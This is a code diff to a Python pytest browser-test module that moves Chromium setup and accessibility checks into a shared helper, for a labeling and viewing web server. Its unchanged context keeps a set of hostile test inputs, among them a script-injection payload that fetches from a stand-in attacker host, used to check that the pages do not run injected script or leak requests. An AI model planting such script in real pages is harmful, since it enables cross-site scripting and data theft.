@@ -2,33 +2,17 @@
 
 import json
 import os
-import shutil
 import signal
 import subprocess
 import sys
 import time
-from pathlib import Path
 
 import pytest
 from tests.conftest import TEXTS
+from tests.real.browser import serious_findings
 
-playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
-if shutil.which("chromium") is None:
-    pytest.skip("chromium is not installed", allow_module_level=True)
-
-ROOT = Path(__file__).parent.parent.parent
-AXE = Path(os.environ.get("POLYJUDGE_AXE") or ROOT / ".venv/node/node_modules/axe-core/axe.min.js")
 SHOTS = os.environ.get("POLYJUDGE_SHOTS", "")
 """A folder for pictures, for people to look at."""
-ARGUMENTS = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-quic",
-    "--no-first-run",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-]
 TAGS = ("ar", "hi", "ta", "th", "ko", "ja", "zh", "yue", "ru", "am")
 HOSTILE = {
     "script": "<script>window.hit = 1; fetch('http://attacker.invalid/s')</script>",
@@ -39,14 +23,6 @@ HOSTILE = {
     "long": "x" * 1_000_000,
     "empty": "",
 }
-
-
-@pytest.fixture(scope="module")
-def chromium():
-    with playwright.sync_playwright() as started:
-        browser = started.chromium.launch(executable_path=shutil.which("chromium"), args=ARGUMENTS)
-        yield browser
-        browser.close()
 
 
 class Running:
@@ -89,12 +65,12 @@ def started():
 
 
 @pytest.fixture
-def opened(chromium):
+def opened(browser):
     """Open pages; afterwards no request has left their origin, and nothing was written to the console."""
     pages = []
 
     def open_page(address, **options):
-        context = chromium.new_context(**options)
+        context = browser.new_context(**options)
         page = context.new_page()
         asked, said = [], []
         page.on("request", lambda request: asked.append(request.url))
@@ -322,9 +298,9 @@ def _open_more_of_a_long_line(page):
     assert "40,000 of 1,000,000" in page.text_content(".part.output button")
 
 
-def test_no_other_page_gets_anything_from_the_server(started, opened, chromium, scored):
+def test_no_other_page_gets_anything_from_the_server(started, opened, browser, scored):
     server = started(scored, "label", "r.jsonl", "--items", "items.jsonl")
-    stranger = chromium.new_context().new_page()
+    stranger = browser.new_context().new_page()
     stranger.set_content("<p>elsewhere</p>")
     tried = stranger.evaluate(
         """async address => {
@@ -366,40 +342,27 @@ def test_runs_are_listed_opened_and_compared(started, opened, scored):
     _shot(page, "report")
 
 
-@pytest.mark.skipif(not AXE.is_file(), reason="axe-core is not installed")
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 @pytest.mark.parametrize(("width", "height"), [(1280, 800), (390, 844)], ids=["desktop", "phone"])
 def test_nothing_stands_in_the_way_of_people_who_see_or_move_otherwise(started, opened, scored, scheme, width, height):
     label = started(scored, "label", "r.jsonl", "--items", "items.jsonl")
     view = started(scored, "view")
-    options = {"color_scheme": scheme, "viewport": {"width": width, "height": height}, "bypass_csp": True}
+    options = {"color_scheme": scheme, "viewport": {"width": width, "height": height}}
     page = opened(label.address, **options)
-    found = _findings(page)
+    found = serious_findings(page)
     _begin(page, "Ada")
     for key in ("4", "2", "5", "c", "1", "3", "4"):
         _press(page, key)
     page.keyboard.press("n")
     _shot(page, f"label-{scheme}-{width}")
-    found += _findings(page)
+    found += serious_findings(page)
     assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
     page.keyboard.press("Escape")
     page.keyboard.press("?")
-    found += _findings(page)
+    found += serious_findings(page)
     runs = opened(view.address, **options)
     _until(runs, "![...document.querySelectorAll('.card')].some(each => each.textContent === '…')")
-    found += _findings(runs)
+    found += serious_findings(runs)
     _shot(runs, f"view-{scheme}-{width}")
 
     assert found == []
-
-
-def _findings(page):
-    page.add_script_tag(path=str(AXE))
-    found = page.evaluate("axe.run(document)")
-    assert "color-contrast" in [each["id"] for each in found["passes"]], "axe looked at nothing"
-    return [
-        (each["id"], node["html"][:200], node["failureSummary"][:300])
-        for each in found["violations"]
-        if each["impact"] in ("serious", "critical")
-        for node in each["nodes"]
-    ]
